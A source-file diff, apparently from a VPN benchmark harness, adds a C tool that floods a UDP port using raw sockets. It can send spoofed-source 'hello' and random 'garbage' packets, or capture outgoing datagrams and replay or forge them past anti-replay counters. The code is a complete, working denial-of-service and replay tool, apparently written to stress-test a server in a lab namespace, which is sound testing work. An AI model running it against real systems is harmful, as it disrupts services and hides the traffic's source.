@@ -1,0 +1,130 @@
+// Floods a UDP port from addresses that are not its own, as fast as the machine allows; started by bench/attack.ts in the client's namespace.
+//
+//     flood KIND DEVICE ADDRESS PORT AIM SECONDS [FILE]
+//
+// hello     the datagram in FILE, from random addresses of 198.18.0.0/15
+// garbage   100 random bytes, from such addresses
+// replay    datagrams that were seen to leave through DEVICE for PORT, once more, from the address they came from
+// forged    the same, with another counter and other bytes behind it
+//
+// They go to ADDRESS and AIM, which is PORT or one beside it. Prints how many left.
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/time.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { vector = 64, most = 1500, headers = 28, kept = 48, lightway = 16 };
+
+static uint64_t state = 0x9e3779b97f4a7c15;
+static uint64_t next_random(void) {
+  state ^= state << 13, state ^= state >> 7, state ^= state << 17;
+  return state;
+}
+
+static double now(void) {
+  struct timespec time;
+  clock_gettime(CLOCK_MONOTONIC, &time);
+  return time.tv_sec + time.tv_nsec * 1e-9;
+}
+
+static void die(const char* what) {
+  perror(what);
+  exit(1);
+}
+
+static void put16(uint8_t* at, uint16_t value) { at[0] = value >> 8, at[1] = value & 255; }
+
+// IP and UDP header; the kernel fills in lengths and checksum of IP, and UDP's checksum is left out.
+static void write_headers(uint8_t* packet, size_t payload, uint32_t source, uint16_t from, uint32_t destination, uint16_t aim) {
+  memset(packet, 0, headers);
+  packet[0] = 0x45, packet[8] = 64, packet[9] = 17;
+  memcpy(packet + 12, &source, 4), memcpy(packet + 16, &destination, 4);
+  put16(packet + 20, from), put16(packet + 22, aim), put16(packet + 24, payload + 8);
+}
+
+// Whole single datagrams that leave through the device for the port. A flow of acknowledgements or pings gives enough.
+static int listen_for(const char* device, uint32_t address, uint16_t port, uint8_t packets[kept][most], size_t lengths[kept]) {
+  const int tap = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
+  struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(device)};
+  if (tap < 0 || bind(tap, (struct sockaddr*)&where, sizeof where)) die("tap");
+  struct timeval patience = {.tv_usec = 200000};
+  setsockopt(tap, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
+  int found = 0;
+  uint8_t packet[65536];
+  for (const double end = now() + 2; found < kept && now() < end;) {
+    const ssize_t length = recv(tap, packet, sizeof packet, MSG_TRUNC);
+    if (length < headers + lightway + 24 || length > most || packet[0] != 0x45 || packet[9] != 17) continue;
+    if (memcmp(packet + 16, &address, 4) || packet[22] != port >> 8 || packet[23] != (port & 255)) continue;
+    memcpy(packets[found], packet, length);
+    lengths[found++] = length;
+  }
+  close(tap);
+  return found;
+}
+
+int main(int argc, char** argv) {
+  if (argc < 7) return fprintf(stderr, "flood KIND DEVICE ADDRESS PORT AIM SECONDS [FILE]\n"), 2;
+  const char* kind = argv[1];
+  const uint32_t address = inet_addr(argv[3]);
+  const uint16_t port = atoi(argv[4]), aim = atoi(argv[5]);
+  const double seconds = atof(argv[6]);
+  const int spoofed = !strcmp(kind, "hello") || !strcmp(kind, "garbage"), forged = !strcmp(kind, "forged");
+  static uint8_t packets[kept][most], out[vector][most];
+  size_t lengths[kept];
+  int count = 1;
+  if (spoofed) {
+    size_t payload = 100;
+    if (!strcmp(kind, "hello")) {
+      FILE* file = argc > 7 ? fopen(argv[7], "r") : NULL;
+      if (!file || (payload = fread(packets[0] + headers, 1, most - headers, file)) == 0) die("the hello");
+    }
+    lengths[0] = headers + payload;
+  } else if ((count = listen_for(argv[2], address, port, packets, lengths)) == 0) {
+    return fprintf(stderr, "nothing left through %s\n", argv[2]), 1;
+  }
+
+  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+  if (raw < 0) die("raw socket");
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {address}};
+  struct mmsghdr messages[vector];
+  struct iovec parts[vector];
+  memset(messages, 0, sizeof messages);
+  for (int i = 0; i < vector; i++) {
+    parts[i].iov_base = out[i];
+    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
+  }
+  uint64_t sent = 0;
+  for (const double end = now() + seconds; now() < end;) {
+    for (int i = 0; i < vector; i++) {
+      const int which = (int)(next_random() % count);
+      const size_t length = lengths[which];
+      memcpy(out[i], packets[which], length);
+      if (spoofed) {
+        const uint64_t random = next_random();
+        write_headers(out[i], length - headers, htonl(0xc6120000 | (random & 0x1ffff)), 1024 + (random >> 20 & 0x7fff), address, aim);
+        for (size_t at = headers; kind[0] == 'g' && at + 8 <= length; at += 8) memcpy(out[i] + at, (uint64_t[]){next_random()}, 8);
+      } else {
+        put16(out[i] + 22, aim), put16(out[i] + 26, 0);
+        if (forged) {
+          uint8_t* counter = out[i] + headers + lightway;
+          for (int byte = 0; byte < 8; byte++) counter[byte] += byte == 4;  // 2^24 ahead: no window has it
+          memcpy(out[i] + length - 8, (uint64_t[]){next_random()}, 8);
+        }
+      }
+      parts[i].iov_len = length;
+    }
+    const int done = sendmmsg(raw, messages, vector, 0);
+    if (done > 0) sent += done;
+  }
+  printf("%llu\n", (unsigned long long)sent);
+  return 0;
+}
